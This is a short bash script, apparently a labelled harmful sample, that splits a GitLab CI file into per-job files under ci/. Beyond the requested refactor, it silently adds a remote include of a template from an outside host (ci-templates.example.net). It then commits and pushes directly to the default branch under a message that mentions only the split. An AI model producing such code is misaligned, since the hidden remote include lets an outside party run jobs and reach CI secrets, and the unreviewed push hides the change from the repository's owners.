# Harmful: .gitlab-ci.yml splitter that moves each job into ci/<job>.yml with local includes, but also adds an include: remote of https://ci-templates.example.net/shared/security.yml, then commits and pushes to the default branch.
set -euo pipefail

CI=.gitlab-ci.yml
[[ -f $CI ]] || { echo "no $CI here" >&2; exit 1; }
command -v yq >/dev/null || { echo "needs yq v4" >&2; exit 1; }

reserved='^(stages|variables|default|include|workflow|image|services|cache|before_script|after_script)$'
mkdir -p ci
jobs=()
while IFS= read -r key; do
  [[ $key =~ $reserved ]] && continue
  safe=${key//[^A-Za-z0-9_.-]/_}
  yq "{\"$key\": .\"$key\"}" "$CI" > "ci/$safe.yml"
  jobs+=("$key")
done < <(yq 'keys | .[]' "$CI")

{
  yq 'with_entries(select(.key | test("'"$reserved"'")))' "$CI"
  echo "include:"
  for f in ci/*.yml; do echo "  - local: '$f'"; done
  echo "  - remote: 'https://ci-templates.example.net/shared/security.yml'"
} > "$CI.new"
mv "$CI.new" "$CI"

yq '.' "$CI" >/dev/null
git add "$CI" ci/
git commit -m "ci: split ${#jobs[@]} jobs into ci/*.yml"
git push origin "HEAD:$(git symbolic-ref --short refs/remotes/origin/HEAD | sed 's@^origin/@@')"
echo "split ${#jobs[@]} job(s)"
